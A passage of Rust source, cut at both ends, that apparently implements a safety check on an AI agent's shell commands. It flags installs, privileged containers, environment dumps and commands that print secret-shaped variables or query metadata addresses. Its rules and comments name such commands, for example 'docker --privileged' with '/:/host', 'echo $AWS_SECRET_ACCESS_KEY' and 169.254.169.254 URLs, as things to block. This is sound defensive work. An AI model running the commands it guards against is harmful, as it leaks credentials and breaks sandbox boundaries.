            }) && !(matches!(
                prog,
                "cargo" | "go" | "npm" | "pnpm" | "yarn" | "bun" | "uv" | "poetry" | "pdm"
            ) && first.is_some_and(|s| matches!(s, "run" | "exec"))
                && !package_option(args))
                || fetches_by_another_name(prog, args, first) =>
        {
            soft(
                "install",
                format!(
                    "{prog} {} installs or runs a package, which runs its code",
                    first.unwrap_or("")
                ),
            )
        }
        // A debugger attached to a running process reads its memory (the secrets it holds)
        // and may change it; the person names the process.
        "gdb" | "gdb-multiarch" | "lldb" | "rust-gdb" | "rust-lldb" if attaches(prog, args) => {
            soft(
                "credentials",
                format!("{prog} attaches to a running process, whose memory holds its secrets"),
            )
        }
        _ if config_management(prog, args).is_some() => {
            soft("code", config_management(prog, args).unwrap_or_default())
        }
        _ if evaluates(
            prog,
            args,
            cmd.sc.stdin_text.is_some() || cmd.sc.piped_stdin,
        )
        .is_some() =>
        {
            soft("code", evaluates(prog, args, true).unwrap_or_default())
        }
        "npx" | "uvx" | "pnpx" | "bunx" => {
            soft("install", format!("{prog} fetches and runs a package"))
        }
        // A container given the host.
        "docker" | "podman" | "nerdctl"
            if first.is_some_and(|s| matches!(s, "run" | "create" | "exec"))
                && args.iter().any(|a| {
                    a == "--privileged"
                        || a.starts_with("--pid=host")
                        || a.starts_with("--net=host")
                        || a.starts_with("--network=host")
                        || a.starts_with("--cap-add")
                        || a.contains("docker.sock")
                        || a == "/:/host"
                        || a.starts_with("/:")
                }) =>
        {
            soft(
                "container-escape",
                format!(
                    "{prog} {} gives the container the host",
                    first.unwrap_or("")
                ),
            )
        }
        _ => None,
    }
}

/// Configuration management run on this machine by hand: Ansible's ad-hoc `ansible HOSTS
/// -m MODULE -a ARGS` runs a module (ansible-core 2.x `ansible --help`; checked with
/// ansible-core: `file … state=absent` deleted, `lineinfile` appended, Jinja's
/// `lookup('file'|'env'|'pipe', …)` in the arguments read files, variables and command
/// output), `command` when none is named; only `ping` (and `setup`, judged as the
/// environment it prints) reads nothing. Puppet's `apply` runs a manifest (`-e CODE` or a
/// file) and `resource TYPE NAME ATTR=VALUE` sets a resource (puppet 8 `puppet help
/// resource`; with no attribute it prints it); Salt's `salt-call FUNCTION` runs an
/// execution module (`cmd.run`, `file.remove`, …; `test.ping` and `--version` only
/// answer); `salt`/`salt-ssh` TARGET FUNCTION the same on minions. What runs is code the
/// floor does not read: the person names it.
fn config_management(prog: &str, args: &[String]) -> Option<String> {
    let pos: Vec<&str> = args
        .iter()
        .filter(|a| !a.starts_with('-'))
        .map(String::as_str)
        .collect();
    match prog {
        "ansible" => {
            let module = ansible_module(args).unwrap_or("command");
            let short = module.rsplit('.').next().unwrap_or(module);
            let jinja = args.iter().any(|a| a.contains("{{") || a.contains("{%"));
            // `--list-hosts` and `--syntax-check` run no module; in check mode (`-C`,
            // `--check`) a module predicts its changes or, not supporting it, is skipped
            // (Ansible docs, "Validating tasks: check mode and diff mode"), but Jinja in
            // its arguments is still evaluated.
            let runs = !args.iter().any(|a| {
                matches!(a.as_str(), "--list-hosts" | "--syntax-check")
                    || (!jinja && matches!(a.as_str(), "-C" | "--check"))
            });
            (runs && (short != "ping" || jinja)).then(|| {
                format!("ansible runs the {module} module here, which the floor does not read")
            })
        }
        "puppet" => match pos.first().copied() {
            Some("apply") => Some("puppet apply runs a manifest".into()),
            // `puppet resource TYPE NAME ATTR=VALUE…`: an attribute sets it.
            Some("resource") if pos.len() > 3 => {
                Some("puppet resource changes a resource on this machine".into())
            }
            _ => None,
        },
        "salt-call" | "salt" | "salt-ssh" => {
            // `salt TARGET FUNCTION`; `salt-call FUNCTION`.
            let f = if prog == "salt-call" {
                pos.first()
            } else {
                pos.get(1)
            };
            f.filter(|f| !matches!(**f, "test.ping" | "test.version"))
                .map(|f| format!("{prog} runs the execution module {f}"))
        }
        _ => None,
    }
}

/// Template and expression languages that read files, the environment or run commands,
/// given an expression inline (or on standard input): gomplate's `-i`/`--in` (gomplate 3
/// docs: `env.Getenv`, `file.Read`, datasources); Nix's `--expr`/`-E` to `nix eval|build|
/// run|shell|develop|repl` and `nix-instantiate`/`nix-build`/`nix-shell` (Nix builtins
/// `readFile`, `getEnv` under `--impure`, `exec` with allow-unsafe-native-code-during-
/// evaluation); Miller's DSL verbs `put` and `filter` (`mlr put 'system(…)'`, `ENV`;
/// checked with miller 6.6 by the red team); Dhall's expression on standard input or as an
/// operand (`env:NAME`, file and URL imports); Jsonnet's `-e`/`--exec` (`importstr` of any
/// path); Pkl's `eval -x|--expression` (`read("env:…")`, `read("file:…")`); CUE's
/// `eval -e` is data. The expression is code the floor does not read: the person names it.
fn evaluates(prog: &str, args: &[String], stdin: bool) -> Option<String> {
    let has = |names: &[&str]| {
        args.iter().any(|a| {
            names.contains(&a.as_str())
                || names
                    .iter()
                    .any(|n| n.starts_with("--") && a.starts_with(&format!("{n}=")))
        })
    };
    let first = args
        .iter()
        .find(|a| !a.starts_with('-'))
        .map(String::as_str);
    match prog {
        "gomplate" if has(&["-i", "--in"]) => Some("gomplate renders an inline template, which may read files and the environment".into()),
        "nix" | "nix-instantiate" | "nix-build" | "nix-shell" | "nix-env" if has(&["--expr", "-E"]) => {
            Some(format!("{prog} evaluates an inline Nix expression, which may read files and the environment"))
        }
        "mlr" | "miller"
            if args.iter().any(|a| matches!(a.as_str(), "put" | "filter"))
                && !args.iter().any(|a| a == "-f" || a == "-s") =>
        {
            Some(format!("{prog} put/filter runs a Miller DSL expression, which may run commands and read the environment"))
        }
        "dhall" | "dhall-to-json" | "dhall-to-yaml" | "dhall-to-text" | "dhall-to-bash"
            if !has(&["--file"])
                && !matches!(first, Some("format" | "lint"))
                && (stdin || args.iter().any(|a| !a.starts_with('-') && !matches!(a.as_str(), "text" | "type" | "normalize" | "resolve" | "format" | "lint" | "freeze" | "hash"))) =>
        {
            Some(format!("{prog} evaluates a Dhall expression, which may import files, URLs and the environment"))
        }
        "jsonnet" if has(&["-e", "--exec"]) => Some("jsonnet evaluates an inline expression, which may import any file".into()),
        "pkl" if first == Some("eval") && has(&["-x", "--expression"]) => {
            Some("pkl eval -x evaluates an expression, which may read files and the environment".into())
        }
        _ => None,
    }
}

/// `--package`/`-p` of `npm exec`, `pnpm exec`/`dlx`, `yarn dlx`: the package is
/// fetched and run, as `npx -p` does (npm 10 `npm help exec`).
fn package_option(args: &[String]) -> bool {
    args.iter()
        .take_while(|a| *a != "--")
        .any(|a| a == "-p" || a == "--package" || a.starts_with("--package="))
}

/// Spellings that fetch and run or install a package under another subcommand: `bun x`
/// (bunx, bun 1.x `bun x --help`), `poetry self add|install|update` (installs into
/// poetry's own environment: a plugin that runs on every poetry command).
fn fetches_by_another_name(prog: &str, args: &[String], first: Option<&str>) -> bool {
    let second = args
        .iter()
        .filter(|a| !a.starts_with('-'))
        .nth(1)
        .map(String::as_str);
    match (prog, first) {
        ("bun", Some("x")) => true,
        // A registry initialiser: `npm init|create|innit NAME` runs `npm exec create-NAME`
        // (npm 10 `npm help init`; without NAME it writes package.json itself), `yarn
        // create NAME` (yarn 1), `pnpm create NAME` (pnpm 9), `bun create NAME|USER/REPO`
        // (bun 1.x: `create-NAME` from npm or a GitHub template, whose start script it
        // runs). `bun init DIR` and `pnpm init` only scaffold.
        ("npm", Some("init" | "create" | "innit")) | ("yarn" | "pnpm" | "bun", Some("create")) => {
            second.is_some()
        }
        ("poetry", Some("self")) => matches!(second, Some("add" | "install" | "update")),
        _ => false,
    }
}

/// Does this `env` argv name a command to run (a word after its options and assignments,
/// or `-S`/`--split-string`, whose string holds one)? The unwrapper hands plain `env CMD`
/// on; what is left here runs something the command floor judges on its own.
fn env_runs_command(args: &[String]) -> bool {
    let mut i = 0;
    while let Some(a) = args.get(i) {
        if a == "--" {
            return args.len() > i + 1;
        }
        if a.starts_with("-S") || a.starts_with("--split-string") || a.starts_with("--sp") {
            return true;
        }
        if matches!(a.as_str(), "-u" | "--unset" | "-C" | "--chdir") {
            i += 2;
            continue;
        }
        if !a.starts_with('-') && !a.contains('=') {
            return true;
        }
        i += 1;
    }
    false
}

/// Programs that print every environment (or shell) variable when given no name.
fn dumps_environment(sc: &SimpleCommand) -> Option<String> {
    let prog = sc.program()?;
    let args = sc.exec.get(1..).unwrap_or(&[]);
    let opts_only = args.iter().all(|a| a.starts_with('-') || a.contains('='));
    let help = args.iter().any(|a| a == "--help" || a == "--version");
    match prog {
        // A command after `env` would have been unwrapped: `env` here runs nothing.
        "env" if !help && !env_runs_command(args) => {
            Some("env prints every environment variable".into())
        }
        "printenv" if opts_only && !help => {
            Some("printenv with no name prints every environment variable".into())
        }
        "export" | "declare" | "typeset" | "readonly"
            if args.iter().all(|a| a.starts_with('-'))
                && !args.iter().any(|a| a.contains('f') || a.contains('F')) =>
        {
            Some(format!(
                "{prog} with no name prints every variable it holds"
            ))
        }
        "set" if args.is_empty() => Some("set with no argument prints every shell variable".into()),
        // jq's dialects and wrappers run a jq program too: kislyuk's yq, xq and tomlq
        // hand it to jq (yq 3 `yq --help`: "yq: Command-line YAML processor - jq wrapper
        // for YAML documents"; checked: `yq -n env` printed the environment), gojq and jaq
        // implement `env` and `$ENV`; mikefarah's yq 4 has `env(NAME)` and `strenv(NAME)`
        // (one variable, judged by its name).
        "jq" | "gojq" | "jaq" | "yq" | "xq" | "tomlq" | "yq-go"
            if args.iter().any(|a| jq_family_reads_env(a)) =>
        {
            Some(format!("{prog} env / $ENV prints the whole environment"))
        }
        // GNU make 4.3: `-p`/`--print-data-base` prints the variable database, every
        // environment variable with its value under `# environment` (checked: a
        // `FOO_TOKEN` of the environment printed by `make -p -n -f /dev/null`).
        "make" | "gmake" if make_prints_database(args) => Some(format!(
            "{prog} -p prints its database, every environment variable with it"
        )),
        // `cmake -E environment` (cmake(1): "Display the current environment variables").
        "cmake"
            if args.first().is_some_and(|a| a == "-E")
                && args.get(1).is_some_and(|a| a == "environment") =>
        {
            Some("cmake -E environment prints every environment variable".into())
        }
        // `php -i` is phpinfo(), whose Environment and $_SERVER tables list every variable
        // with its value (checked: PHP 8 CLI printed `$_SERVER['FOO_TOKEN'] => x`).
        "php" if args.iter().any(|a| a == "-i" || a == "--info") => {
            Some("php -i (phpinfo) prints every environment variable".into())
        }
        // tmux(1): `show-environment [-hgs] [-t target] [variable]` prints the session's or,
        // with -g, the server's environment; one variable when one is named.
        "tmux" if tmux_shows_environment(args) => {
            Some("tmux show-environment prints the environment tmux holds".into())
        }
        // maven-help-plugin `help:system` lists the system properties and the environment.
        "mvn" | "mvnw" | "./mvnw"
            if args
                .iter()
                .any(|a| a == "help:system" || a.ends_with(":help:system")) =>
        {
            Some("mvn help:system prints every environment variable".into())
        }
        // envsubst(1): with no SHELL-FORMAT "all environment variables references occurring
        // in standard input are substituted"; with one, only those it names (judged as
        // names, `printed_names`). Input that is not known text names anything.
        "envsubst" if envsubst_format(args).is_none() && !help => {
            let names = args.iter().any(|a| a == "-v" || a == "--variables");
            let known = sc.stdin_known
                && sc
                    .stdin_text
                    .as_deref()
                    .is_some_and(|t| !dollar_names(t).into_iter().any(secret_name));
            (!names && !known).then(|| {
                "envsubst with no SHELL-FORMAT prints the value of every variable its input names"
                    .into()
            })
        }
        _ => wrapped_dump(prog, args),
    }
}

/// A program that runs another command ending the line with a bare environment dump: a
/// project or tool wrapper's `run`/`exec`/`x` or a `--` (`poetry run env`, `bundle exec
/// env`, `pixi run -e dev printenv`, `mise exec -- env`, `kubectl exec POD -- env`,
/// `docker exec C env`). Whatever the wrapper's options, the dump is the last command it
/// runs, so it prints every variable, the wrapper's and the project's included. The
/// JavaScript package managers' `run env` is a script of the project's when it defines
/// one, and the environment otherwise: their runners' grammar says which.
fn wrapped_dump(prog: &str, args: &[String]) -> Option<String> {
    if matches!(prog, "npm" | "pnpm" | "yarn" | "bun") {
        return None;
    }
    let (last, before) = args.split_last()?;
    let dumper = match last.as_str() {
        "env" | "printenv" => last.as_str(),
        _ => return None,
    };
    let runs = before
        .iter()
        .any(|a| matches!(a.as_str(), "run" | "exec" | "x" | "--" | "run-script"));
    if !runs || matches!(prog, "env" | "printenv") {
        return None;
    }
    Some(format!(
        "{prog} runs `{dumper}`, which prints every environment variable"
    ))
}

/// Does a `make` command line ask for `-p` (a short-option cluster up to an option that
/// takes a value: `-pn`, `-ep`, not `-Cp`) or `--print-data-base` (getopt's unambiguous
/// prefixes from `--print-da`)?
fn make_prints_database(args: &[String]) -> bool {
    for a in args {
        if a == "--" {
            return false;
        }
        if a.starts_with("--") {
            if a.len() >= "--print-da".len() && "--print-data-base".starts_with(a.as_str()) {
                return true;
            }
            continue;
        }
        if let Some(cluster) = a.strip_prefix('-') {
            for c in cluster.chars() {
                if c == 'p' {
                    return true;
                }
                if matches!(c, 'C' | 'f' | 'I' | 'j' | 'l' | 'o' | 'W' | 'O' | 'E') {
                    break;
                }
            }
        }
    }
    false
}

/// `tmux [opts] show-environment|showenv [-hgs] [-t target]` with no variable named.
fn tmux_shows_environment(args: &[String]) -> bool {
    let Some(at) = args
        .iter()
        .position(|a| a == "show-environment" || a == "showenv")
    else {
        return false;
    };
    let rest = &args[at + 1..];
    let mut i = 0;
    while let Some(a) = rest.get(i) {
        if a == "-t" {
            i += 2;
            continue;
        }
        if a == ";" || a == "\\;" {
            break;
        }
        if !a.starts_with('-') {
            return false;
        }
        i += 1;
    }
    true
}

/// The names `$NAME` and `${NAME}` of a text.
fn dollar_names(text: &str) -> Vec<&str> {
    text.split('$')
        .skip(1)
        .map(|v| {
            let v = v.trim_start_matches('{');
            let end = v
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .unwrap_or(v.len());
            &v[..end]
        })
        .filter(|v| !v.is_empty())
        .collect()
}

/// The SHELL-FORMAT operand of an `envsubst` command line, if it has one.
fn envsubst_format(args: &[String]) -> Option<&str> {
    args.iter()
        .find(|a| !a.starts_with('-'))
        .map(String::as_str)
}

/// A word of a jq-family command line that reads the environment: a jq program with
/// `env` or `$ENV` (not a data file's name, `env.json`), or yq's `env(NAME)` /
/// `strenv(NAME)` of a secret's name. `env(HOME)` reads one plain variable.
fn jq_family_reads_env(word: &str) -> bool {
    const DATA: &[&str] = &[
        "json",
        "yaml",
        "yml",
        "toml",
        "xml",
        "jsonl",
        "ndjson",
        "csv",
        "properties",
    ];
    let data_file = std::path::Path::new(word)
        .extension()
        .and_then(|e| e.to_str())
        .is_some_and(|e| DATA.contains(&e.to_ascii_lowercase().as_str()))
        && !word.contains([' ', '|', '(', '$', '"', '\'']);
    if data_file {
        return false;
    }
    if word.contains("$ENV") {
        return true;
    }
    // Every `env` that is a word of the program: `env(NAME)` with a plain name is one
    // variable, anything else (`env`, `env.X`, `env | keys`, `env(X)` of a secret) is the
    // environment read.
    let b = word.as_bytes();
    let mut i = 0;
    while let Some(p) = word[i..].find("env") {
        let at = i + p;
        i = at + 3;
        let before = at.checked_sub(1).map(|j| b[j]);
        let after = b.get(at + 3).copied();
        let word_char = |c: Option<u8>| c.is_some_and(|c| c.is_ascii_alphanumeric() || c == b'_');
        if word_char(after) || before == Some(b'.') || before == Some(b'$') {
            continue;
        }
        if word_char(before) && !word[..at].ends_with("str") {
            continue;
        }
        if after == Some(b'(') {
            let inner = &word[at + 4..];
            let name: String = inner
                .trim_start_matches(['"', '\''])
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                .collect();
            let closed = inner
                .trim_start_matches(['"', '\''])
                .get(name.len()..)
                .is_some_and(|r| r.trim_start_matches(['"', '\'']).starts_with(')'));
            if !name.is_empty() && closed && !secret_name(&name) {
                continue;
            }
        }
        return true;
    }
    false
}

/// The names a printer prints by name (`printenv NAME`, `declare -p NAME`).
fn printed_names(sc: &SimpleCommand) -> Vec<&str> {
    let args = sc.exec.get(1..).unwrap_or(&[]);
    match sc.program() {
        Some("printenv") => args
            .iter()
            .filter(|a| !a.starts_with('-'))
            .map(String::as_str)
            .collect(),
        Some("declare" | "typeset" | "export" | "readonly")
            if args.iter().any(|a| a.starts_with('-') && a.contains('p')) =>
        {
            args.iter()
                .filter(|a| !a.starts_with('-') && !a.contains('='))
                .map(String::as_str)
                .collect()
        }
        // `-v`/`--variables` prints the names of SHELL-FORMAT, not their values.
        Some("envsubst") if !args.iter().any(|a| a == "-v" || a == "--variables") => {
            envsubst_format(args).map(dollar_names).unwrap_or_default()
        }
        _ => Vec::new(),
    }
}

/// `PROG | cut -d= -f1`: only the names of the variables reach the output.
fn names_only(cmds: &[SimpleCommand], i: usize) -> bool {
    let Some(next) = cmds.get(i + 1) else {
        return false;
    };
    if !next.piped_stdin || next.program() != Some("cut") {
        return false;
    }
    let args = next.exec.get(1..).unwrap_or(&[]);
    let joined = args.join(" ");
    let delim = ["-d=", "-d =", "--delimiter==", "--delimiter ="]
        .iter()
        .any(|d| joined.contains(d));
    let field = args.iter().enumerate().any(|(k, a)| {
        a == "-f1" || a == "--fields=1" || (a == "-f" && args.get(k + 1).is_some_and(|v| v == "1"))
    });
    delim && field && args.len() <= 4
}

/// `set -x`, `bash -x`, `set -o xtrace`, `SHELLOPTS=xtrace`: every expanded word is
/// printed, so no form of expansion keeps a value out of the output.
fn xtrace(a: &Analysis) -> bool {
    let flag = |w: &str| w.starts_with('-') && !w.starts_with("--") && w.contains('x');
    a.commands.iter().any(|c| {
        let args = c.argv.get(1..).unwrap_or(&[]);
        let shell = c.argv.first().is_some_and(|p| {
            matches!(
                p.rsplit('/').next().unwrap_or(""),
                "bash" | "sh" | "zsh" | "dash" | "ksh" | "set"
            )
        });
        (shell
            && args
                .iter()
                .take_while(|a| a.starts_with('-'))
                .any(|a| flag(a)))
            || c.argv.iter().any(|w| w == "xtrace")
            || c.assignments
                .iter()
                .any(|(n, v)| (n == "SHELLOPTS" && v.contains("xtrace")) || n == "BASH_XTRACEFD")
    }) || a
        .bare_assignments
        .iter()
        .any(|(n, v)| (n == "SHELLOPTS" && v.contains("xtrace")) || n == "BASH_XTRACEFD")
}

/// Variables whose values are secrets: secret-shaped names, and names assigned from them
/// (`k=$AWS_SECRET_ACCESS_KEY; echo $k`, `export K=$TOKEN`).
fn tainted(a: &Analysis) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    let hit = |v: &str, out: &[String]| {
        expansions(v)
            .iter()
            .filter_map(Use::value)
            .any(|n| secret_name(n) || out.iter().any(|t| t == n))
    };
    for _ in 0..3 {
        let before = out.len();
        let mut pairs: Vec<(&str, &str)> = a
            .bare_assignments
            .iter()
            .map(|(n, v)| (n.as_str(), v.as_str()))
            .collect();
        for c in &a.commands {
            pairs.extend(c.assignments.iter().map(|(n, v)| (n.as_str(), v.as_str())));
            if matches!(
                c.program(),
                Some("export" | "declare" | "typeset" | "local" | "readonly")
            ) {
                pairs.extend(c.exec.iter().skip(1).filter_map(|w| w.split_once('=')));
            }
        }
        for (n, v) in pairs {
            if !out.iter().any(|t| t == n) && hit(v, &out) {
                out.push(n.to_string());
            }
        }
        if out.len() == before {
            break;
        }
    }
    out
}

/// `[ … ]`, `test …`, `[[ … ]]` whose every clause is a string or file test: bash prints
/// none of its operands (an arithmetic comparison prints a value that is not a number).
fn quiet_test(sc: &SimpleCommand) -> bool {
    const UNARY: &[&str] = &[
        "-n", "-z", "-a", "-b", "-c", "-d", "-e", "-f", "-g", "-h", "-k", "-p", "-r", "-s", "-u",
        "-w", "-x", "-G", "-L", "-N", "-O", "-S", "-v", "-o",
    ];
    const BINARY: &[&str] = &["=", "==", "!=", "<", ">", "-ef", "-nt", "-ot", "=~"];
    let Some(prog) = sc.program() else {
        return false;
    };
    let mut args: Vec<&str> = sc.exec.iter().skip(1).map(String::as_str).collect();
    match prog {
        "[" if args.last() == Some(&"]") => {
            args.pop();
        }
        "[[" if args.last() == Some(&"]]") => {
            args.pop();
        }
        "test" => {}
        _ => return false,
    }
    args.split(|a| matches!(*a, "-a" | "-o" | "&&" | "||"))
        .all(|clause| {
            let c: Vec<&str> = clause
                .iter()
                .copied()
                .filter(|a| !matches!(*a, "!" | "(" | ")"))
                .collect();
            match c.as_slice() {
                [] | [_] => true,
                [op, _] => UNARY.contains(op),
                [_, op, _] => BINARY.contains(op),
                _ => false,
            }
        })
}

/// Does this heredoc expand its body (`<<EOF`, not `<<'EOF'`, `<<"EOF"` or `<<\EOF`)?
fn heredoc_expands(text: &str) -> bool {
    let Some(at) = text.find("<<") else {
        return true;
    };
    let rest = text[at + 2..].trim_start_matches('-').trim_start();
    !rest.starts_with(['\'', '"', '\\'])
}

/// The secret-shaped (or tainted) variable whose value reaches `text`, if any.
fn secret_in(text: &str, tainted: &[String]) -> Option<String> {
    expansions(text)
        .iter()
        .filter_map(Use::value)
        .find(|n| secret_name(n) || tainted.iter().any(|t| t == n))
        .map(str::to_string)
}

/// Secrets printed where the agent reads them, over the whole command: environment dumps
/// (`env`, `printenv`, `export -p`, `set`, `jq -n env`), a secret printed by name
/// (`printenv GITHUB_TOKEN`), and every word, redirection, here-string or heredoc that
/// expands the value of a secret-shaped variable (`echo $AWS_SECRET_ACCESS_KEY`, `printf %s
/// "$GITHUB_TOKEN"`; any program can print its arguments, if only in an error) — except
/// where bash does not expand the value (`${X:+set}`, `${#X}`), assignments and string
/// tests that print nothing (`export K=$X`, `[ -n "$X" ]`), unless xtrace prints it all.
/// Each one is an [`Effect::Secret`] on its finding and a hard verdict: credential.
pub(super) fn secrets_printed(a: &Analysis, findings: &mut [Finding]) -> Vec<Verdict> {
    let mut out = Vec::new();
    let cmds = &a.commands;
    if cmds.is_empty() && a.bare_assignments.is_empty() {
        return out;
    }
    let tainted = tainted(a);
    let traced = xtrace(a);
    let check = "check it is set with `[ -n \"$NAME\" ]` or `${NAME:+set}`, and let the program that needs it read it from the environment itself";
    for (i, sc) in cmds.iter().enumerate() {
        let prog = sc.program().unwrap_or("");
        let mut hit: Option<(String, String)> = None;
        if let Some(why) = dumps_environment(sc) {
            if !names_only(cmds, i) {
                hit = Some((
                    "the environment (secrets included)".into(),
                    format!(
                        "{why}, secrets included, where the agent reads them; name the one you need (`printenv HOME`) or list the names only (`{prog} | cut -d= -f1`)"
                    ),
                ));
            }
        }
        if hit.is_none() {
            if let Some(n) = printed_names(sc)
                .into_iter()
                .find(|n| secret_name(n) || tainted.iter().any(|t| t == n))
            {
                hit = Some((
                    format!("the value of ${n}"),
                    format!(
                        "{prog} {n} prints the secret-shaped variable {n}; {}",
                        check.replace("NAME", n)
                    ),
                ));
            }
        }
        let assigning = matches!(
            prog,
            "export" | "declare" | "typeset" | "local" | "readonly"
        );
        let quiet = !traced && (quiet_test(sc) || matches!(prog, ":" | "true" | "false"));
        if hit.is_none() {
            let words = sc.argv.iter().zip(sc.dynamic_words.iter().copied());
            for (w, dynamic) in words {
                // The analysis marks `export K=$X` words literal; under xtrace they print.
                let dynamic = dynamic || (assigning && w.contains('$'));
                if !dynamic || quiet || (assigning && !traced && w.contains('=')) {
                    continue;
                }
                if let Some(n) = secret_in(w, &tainted) {
                    let what = if prog.is_empty() { "the shell" } else { prog };
                    hit = Some((
                        format!("the value of ${n}"),
                        format!(
                            "{what} is given the value of the secret-shaped variable ${n} and can print it (if only in an error) where the agent reads it; {}",
                            check.replace("NAME", &n)
                        ),
                    ));
                    break;
                }
            }
        }
        if hit.is_none() {
            for r in &sc.redirects {
                let text = match r.op {
                    RedirectOp::HereDoc if heredoc_expands(&sc.text) => {
                        sc.stdin_text.as_deref().unwrap_or("")
                    }
                    RedirectOp::HereDoc | RedirectOp::DupIn | RedirectOp::DupOut => continue,
                    _ if !r.dynamic => continue,
                    _ => r.target.as_str(),
                };
                if let Some(n) = secret_in(text, &tainted) {
                    hit = Some((
                        format!("the value of ${n}"),
                        format!(
                            "{prog} is fed the value of the secret-shaped variable ${n} and can print it where the agent reads it; {}",
                            check.replace("NAME", &n)
                        ),
                    ));
                    break;
                }
            }
        }
        if hit.is_none() && traced {
            if let Some(n) = sc
                .assignments
                .iter()
                .find_map(|(_, v)| secret_in(v, &tainted))
            {
                hit = Some((
                    format!("the value of ${n}"),
                    format!("xtrace prints the assignment of the secret-shaped variable ${n}"),
                ));
            }
        }
        let Some((what, reason)) = hit else { continue };
        if let Some(f) = findings.get_mut(i) {
            f.effects.push(Effect::Secret { what });
            if !matches!(f.class, Class::Hard { .. }) {
                f.class = Class::Hard {
                    category: "credential",
                    reason: reason.clone(),
                };
            }
        }
        out.push(Verdict::Hard {
            category: "credential",
            reason,
            command: crate::decision::cause::one_line(&sc.text, 200),
        });
    }
    if traced {
        if let Some(n) = a
            .bare_assignments
            .iter()
            .find_map(|(_, v)| secret_in(v, &tainted))
        {
            out.push(Verdict::Hard {
                category: "credential",
                reason: format!("xtrace prints the assignment of the secret-shaped variable ${n}"),
                command: format!("…=${n}"),
            });
        }
    }
    out
}

/// Programs that only send ICMP or look up routes: naming a metadata address there asks
/// it for nothing.
const PINGERS: &[&str] = &[
    "ping",
    "ping6",
    "traceroute",
    "traceroute6",
    "mtr",
    "arping",
    "tracepath",
];

/// The hosts of the URLs written anywhere in `word` (`http://169.254.169.254/…`, also
/// inside interpreter code), and the word itself when it is a bare host (`nc HOST 80`,
/// `HOST:80`, `user@HOST`).
fn hosts_in(word: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = word;
    while let Some(at) = rest.find("://") {
        let after = &rest[at + 3..];
        let end = after
            .find(['/', '?', '#', '\'', '"', ' ', ')', '\\'])
            .unwrap_or(after.len());
        let auth = &after[..end];
        let host = auth.rsplit('@').next().unwrap_or(auth);
        let host = if let Some(v6) = host.strip_prefix('[') {
            v6.split(']').next().unwrap_or(v6)
        } else {
            host.split(':').next().unwrap_or(host)
        };
        out.push(host);
        rest = &after[end..];
    }
    // A bare word is a host only when it is shaped like one (a bare `metadata` is a file).
    if out.is_empty() && word.contains(['.', ':']) {
        let w = word.rsplit('@').next().unwrap_or(word);
        let w = w.trim_start_matches('[');
        let w = match w.split_once(']') {
            Some((v6, _)) => v6,
            None if w.matches(':').count() == 1 => w.split(':').next().unwrap_or(w),
            None => w,
        };
        out.push(w);
    }
    out
}

/// `-v SRC:DST`, `--volume SRC:DST`, `--mount type=bind,source=SRC,…`: the host paths a
/// container is given (relative sources are named volumes, except `./x` and `.`).
fn mount_sources(args: &[String]) -> Vec<String> {
    let mut out = Vec::new();
    let mut it = args.iter().peekable();
    while let Some(a) = it.next() {
        let val = |name: &str, it: &mut std::iter::Peekable<std::slice::Iter<String>>| {
            if a == name {
                it.next().cloned()
            } else {
                a.strip_prefix(&format!("{name}=")).map(str::to_string)
            }
        };
        let v = val("-v", &mut it)
            .or_else(|| val("--volume", &mut it))
            .or_else(|| {
                a.strip_prefix("-v")
                    .filter(|r| !r.is_empty())
                    .map(str::to_string)
            });
        if let Some(v) = v {
            let src = v.split(':').next().unwrap_or("").to_string();
            if src.starts_with('/')
                || src.starts_with('~')
                || src.starts_with('.')
                || src.starts_with('$')
            {
                out.push(src);
            }
            continue;
        }
        if let Some(m) = val("--mount", &mut it) {
            for kv in m.split(',') {
                if let Some(s) = kv
                    .strip_prefix("source=")
                    .or_else(|| kv.strip_prefix("src="))
                {
                    out.push(s.to_string());
                }
            }
        }
    }
    out
}

/// The directory a static file server serves, if `argv` starts one: `python -m
/// http.server [-d DIR]`, `python -m SimpleHTTPServer`, `php -S ADDR [-t DIR]`, `ruby -run
/// -e httpd [DIR]`, `busybox httpd [-h DIR]`, `http-server [DIR]`, `serve [DIR]`.
fn served_dir(argv: &[String]) -> Option<Option<String>> {
    let prog = argv.first()?.rsplit('/').next().unwrap_or("");
    let args = argv.get(1..).unwrap_or(&[]);
    let opt = |names: &[&str]| {
        let mut it = args.iter();
        while let Some(a) = it.next() {
            for n in names {
                if a == n {
                    return it.next().cloned();
                }
                if let Some(v) = a.strip_prefix(&format!("{n}=")) {
                    return Some(v.to_string());
                }
            }
        }
        None
    };
    let base = prog.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    match base {
        "python" | "pypy" => {
            let m = args.iter().position(|a| a == "-m")?;
            match args.get(m + 1).map(String::as_str) {
                Some("http.server") => Some(opt(&["-d", "--directory"])),
                Some("SimpleHTTPServer") => Some(None),
                _ => None,
            }
        }
        "php" if args.iter().any(|a| a == "-S") => Some(opt(&["-t"])),
        // `openssl s_server -WWW`/`-HTTP` answers with the files under its directory.
        "openssl"
            if args.first().is_some_and(|a| a == "s_server")
                && args.iter().any(|a| a == "-WWW" || a == "-HTTP") =>
        {
            Some(None)
        }
        "ruby" if args.windows(2).any(|w| w[0] == "-e" && w[1] == "httpd") => Some(None),
        "busybox" if args.first().is_some_and(|a| a == "httpd") => Some(opt(&["-h"])),
        "http-server" | "serve" | "live-server" => Some(
            args.iter()
                .find(|a| !a.starts_with('-') && !a.chars().all(|c| c.is_ascii_digit()))
                .cloned(),
        ),
        _ => None,
    }
}

/// git's traces of its HTTP exchanges (`GIT_TRACE_CURL`, `GIT_CURL_VERBOSE`) and of the
/// protocol (`GIT_TRACE_PACKET`, `GIT_TRACE`) print the `Authorization:` header the
/// credential helper supplies, the cookies and packfile URIs, unless redacted, which they
/// are by default; `GIT_TRACE_REDACT` set to false turns that off (git(1), git 2.47,
/// "GIT_TRACE_REDACT"). The variables in a command's environment (prefixes and what
/// earlier `export`s put there) that do both make whatever git it runs print the
/// credential: a secret printed.
fn unredacted_trace(sc: &crate::analysis::shell::SimpleCommand) -> Option<String> {
    let value = |n: &str| {
        sc.assignments
            .iter()
            .rev()
            .find(|(k, _)| k == n)
            .map(|(_, v)| v.trim_matches(['"', '\'']).to_ascii_lowercase())
    };
    // git's boolean false (git-config(1) "boolean"); an expansion may be anything.
    let off = value("GIT_TRACE_REDACT").is_some_and(|v| {
